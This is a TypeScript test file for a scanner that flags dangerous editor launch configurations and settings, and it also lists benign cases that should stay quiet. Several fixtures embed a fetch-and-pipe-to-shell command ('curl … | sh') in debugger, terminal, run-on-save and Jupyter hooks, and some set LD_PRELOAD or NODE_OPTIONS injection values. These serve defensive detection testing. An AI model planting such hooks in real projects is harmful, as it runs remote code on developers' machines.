// What an editor starts by its settings and launch configurations, wherever it is written.
import { describe, expect, it } from 'vitest';
import { told } from './support.ts';

const FETCH = 'curl -s https://x.example.com/i | sh';
const COMMAND = 'HOOK-DANGEROUS-COMMAND';
const SETTING = 'HOOK-EDITOR-SETTING';

describe('a launch configuration', () => {
  const launch = (one: object): object => ({
    version: '0.2.0',
    configurations: [{ name: 'Train', request: 'launch', ...one }],
  });

  it.each<[string, object]>([
    [COMMAND, { type: 'node-terminal', command: FETCH }],
    [COMMAND, { type: 'node', runtimeExecutable: 'bash', runtimeArgs: ['-c', FETCH] }],
    [COMMAND, { type: 'node', linux: { runtimeExecutable: 'sh', runtimeArgs: ['-c', FETCH] } }],
    [COMMAND, { type: 'lldb', initCommands: [`platform shell ${FETCH}`] }],
    [COMMAND, { type: 'cppdbg', setupCommands: [{ text: `-interpreter-exec console "shell ${FETCH}"` }] }],
    [SETTING, { type: 'debugpy', program: 'train.py', python: './tools/python' }],
    [SETTING, { type: 'debugpy', program: 'train.py', python: ['./bin/python', '-u'] }],
    ['HOOK-ENVIRONMENT', { type: 'debugpy', program: 'train.py', env: { LD_PRELOAD: './x.so' } }],
    ['HOOK-ENVIRONMENT', { program: 'train.py', env: { PYTHONSTARTUP: '${workspaceFolder}/x.py' } }],
    ['HOOK-ENVIRONMENT', { program: 'a.js', env: { NODE_OPTIONS: '--require=./tools/x.js' } }],
  ])('is for review: %s %j', async (rule, one) => {
    expect(await told('.vscode/launch.json', launch(one))).toEqual([`MEDIUM ${rule}`]);
    expect(await told('a.code-workspace', { launch: launch(one) })).toEqual([`MEDIUM ${rule}`]);
  });

  it.each<[object]>([
    [{ type: 'debugpy', program: '${workspaceFolder}/train.py', args: ['--debug'], python: 'python3' }],
    [{ type: 'debugpy', program: 'a.py', python: '${workspaceFolder}/.venv/bin/python' }],
    [{ type: 'debugpy', program: 'a.py', python: '${workspaceFolder}/my-env/bin/python' }],
    [{ type: 'debugpy', env: { PYTHONPATH: '${workspaceFolder}', LD_LIBRARY_PATH: './build' } }],
    [{ type: 'debugpy', env: { LD_PRELOAD: '/usr/lib/libtcmalloc.so' } }],
    [{ type: 'node', env: { NODE_OPTIONS: '--max-old-space-size=4096 -r ts-node/register' } }],
    [{ type: 'node', runtimeExecutable: 'npm', runtimeArgs: ['run', 'dev'], preLaunchTask: 'build' }],
    [{ type: 'cppdbg', program: 'build/a', setupCommands: [{ text: '-enable-pretty-printing' }] }],
  ])('is quiet: %j', async (one) => {
    expect(await told('.vscode/launch.json', launch(one))).toEqual([]);
  });
});

describe('a setting of the editor', () => {
  it.each<[string, object]>([
    [`MEDIUM ${SETTING}`, { 'terminal.integrated.profiles.linux': { bash: { path: './x.sh' } } }],
    [`MEDIUM ${SETTING}`, { 'terminal.integrated.automationProfile.linux': { path: './x.sh' } }],
    [
      `HIGH ${COMMAND}`,
      { 'terminal.integrated.profiles.osx': { zsh: { path: 'zsh', args: ['-c', FETCH] } } },
    ],
    [`MEDIUM ${SETTING}`, { 'http.proxy': 'http://u@proxy.example.net:8080' }],
    [`LOW ${SETTING}`, { 'http.proxyStrictSSL': false }],
    [`HIGH ${COMMAND}`, { 'emeraldwalk.runonsave': { commands: [{ match: '.*', cmd: FETCH }] } }],
    [`HIGH ${COMMAND}`, { 'filewatcher.commands': [{ match: '.*', cmd: FETCH, event: 'onFileChange' }] }],
    [`HIGH ${COMMAND}`, { 'jupyter.runStartupCommands': [`!${FETCH}`] }],
    [`MEDIUM ${SETTING}`, { 'go.alternateTools': { go: './tools/go' } }],
    [`MEDIUM ${SETTING}`, { 'python.testing.pytestPath': 'tools/pytest' }],
    [`MEDIUM ${SETTING}`, { 'mypy-type-checker.path': ['./tools/mypy'] }],
    [`MEDIUM ${SETTING}`, { 'deno.path': '${workspaceFolder}/tools/deno' }],
    [`MEDIUM ${SETTING}`, { 'typescript.tsdk': 'tools/typescript/lib' }],
  ])('is %s: %j', async (expected, settings) => {
    expect(await told('.vscode/settings.json', settings)).toEqual([expected]);
    expect(await told('a.code-workspace', { settings })).toEqual([expected]);
  });

  it.each<[object]>([
    [{ 'terminal.integrated.profiles.linux': { bash: { path: '/bin/bash', args: ['-l'] }, x: null } }],
    [{ 'terminal.integrated.profiles.windows': { PowerShell: { source: 'PowerShell' } } }],
    [{ 'http.proxy': 'http://127.0.0.1:3128', 'http.proxyStrictSSL': true }],
    [{ 'emeraldwalk.runonsave': { commands: [{ match: '\\.py$', cmd: 'black ${file}' }] } }],
    [{ 'jupyter.runStartupCommands': ['%load_ext autoreload', '%autoreload 2'] }],
    [{ 'go.alternateTools': { go: '/usr/local/go/bin/go', gofmt: 'gofumpt' } }],
    [{ 'typescript.tsdk': 'node_modules/typescript/lib', 'eslint.nodePath': '.yarn/sdks' }],
    [{ 'python.linting.pylintArgs': ['--rcfile=./pylintrc'], 'python.testing.pytestPath': 'pytest' }],
  ])('is quiet: %j', async (settings) => {
    expect(await told('.vscode/settings.json', settings)).toEqual([]);
  });
});
